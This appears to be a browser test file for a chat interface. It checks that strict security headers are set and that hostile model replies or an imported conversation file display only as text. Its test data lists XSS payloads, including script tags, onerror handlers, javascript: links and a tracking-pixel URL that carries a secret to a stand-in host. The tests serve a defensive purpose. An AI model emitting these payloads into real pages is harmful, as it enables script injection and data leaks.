import { afterEach, expect, test } from "vitest";
import { scriptedModel } from "wick/testing";
import { type StandInServer, contentSecurityPolicy, start } from "../stand-in-server.ts";
import { type OpenedPage, ask, idle, lastAnswer, useBrowser } from "./opened-page.ts";

const openAt = useBrowser();
let server: StandInServer;
let opened: OpenedPage;

afterEach(async () => {
  await server.stop();
  await opened.close();
});

test("the page has its strict headers", async () => {
  server = await start({ models: {} });
  opened = await openAt(server.url);
  const response = await fetch(server.url);
  expect(response.headers.get("content-security-policy")).toBe(contentSecurityPolicy);
  expect(contentSecurityPolicy).not.toMatch(/unsafe-inline|'unsafe-eval|\*|https?:|data:|blob:/);
  const html = await response.text();
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|\sstyle=|\son\w+=/);
});

test("whatever a model writes, nothing runs, nothing is fetched, nothing leaves the page", async () => {
  const hostile = [
    "<script>document.title = 'owned'</script>",
    "<img src=https://tracker.example/a.png onerror=\"document.title='owned'\">",
    "![pixel](https://tracker.example/pixel.png?said=secret)",
    "[click](javascript:document.title='owned')",
    "[data](data:text/html,<script>document.title='owned'</script>)",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>* { display: none !important }</style>",
    "<svg><script>document.title='owned'</script></svg>",
    "<link rel=stylesheet href=https://tracker.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://tracker.example'>",
    "<base href=https://tracker.example/>",
    "<form action=https://tracker.example><input name=x autofocus onfocus=\"document.title='owned'\">",
    "```html\n<script>document.title = 'owned'</script>\n```",
    "[ref]\n\n[ref]: javascript:document.title='owned'",
    "<a href=\"javascript:document.title='owned'\">x</a>",
    "\u202Eevil\u202C text",
    "[real](https://tracker.example/real)",
  ].join("\n\n");
  const model = scriptedModel({
    info: { id: "<b>name</b>" },
    replies: [
      {
        reasoning: hostile,
        text: hostile,
        toolCalls: [
          { id: "<i>", type: "function", function: { name: "f", arguments: `{"x": ${JSON.stringify(hostile)}}` } },
        ],
      },
    ],
  });
  server = await start({ models: { "<b>name</b>": model } });
  opened = await openAt(server.url);
  const { page } = opened;
  await ask(page, hostile);
  await idle(page);
  await lastAnswer(page).locator("summary").click();
  await page.getByRole("button", { name: "Inspector" }).click();
  await page.getByRole("listbox", { name: "Responses" }).focus();
  await page.keyboard.press("End");
  await page.getByRole("button", { name: "Code", exact: true }).click();
  await page.getByText("chat.ts").waitFor();
  await page.waitForTimeout(300);
  expect(await page.title()).not.toContain("owned –");
  expect(
    await page.locator("main :is(script, img, iframe, style, link, meta, base, form form, object, embed)").count(),
  ).toBe(0);
  const links = await page.evaluate<string[]>(
    "[...document.querySelectorAll('.answer a')].map((a) => [a.protocol, a.rel, a.target].join(' '))",
  );
  expect(new Set(links)).toEqual(new Set(["https: noopener noreferrer _blank"]));
  expect(await lastAnswer(page).locator(".markdown").first().textContent()).toContain(
    "<script>document.title = 'owned'</script>",
  );
});

test("a kept conversation of another hand is shown as text, too", async () => {
  server = await start({ models: {} });
  opened = await openAt(server.url);
  const { page } = opened;
  const evil = "<img src=x onerror=\"document.title='owned'\">";
  const file = {
    format: "wick-conversation",
    version: 1,
    id: "evil",
    createdAt: 1,
    changedAt: 1,
    system: evil,
    leaf: "a",
    turns: [
      { kind: "user", id: "q", parent: null, createdAt: 1, text: evil },
      {
        kind: "answer",
        id: "a",
        parent: "q",
        createdAt: 1,
        model: evil,
        messages: [],
        outcome: {
          kind: "failed",
          of: "model_error",
          error: { code: evil, message: evil, where: evil, retryable: false },
        },
        parts: [
          { kind: "text", text: evil },
          {
            kind: "tool",
            callId: evil,
            name: evil,
            input: evil,
            output: evil,
            state: { kind: "denied", reason: evil },
          },
        ],
      },
    ],
  };
  await page.getByLabel("A conversation as JSON").setInputFiles({
    name: "evil.json",
    mimeType: "application/json",
    buffer: Buffer.from(JSON.stringify(file)),
  });
  await page.locator(".failure").waitFor();
  expect(await page.locator("main img").count()).toBe(0);
});
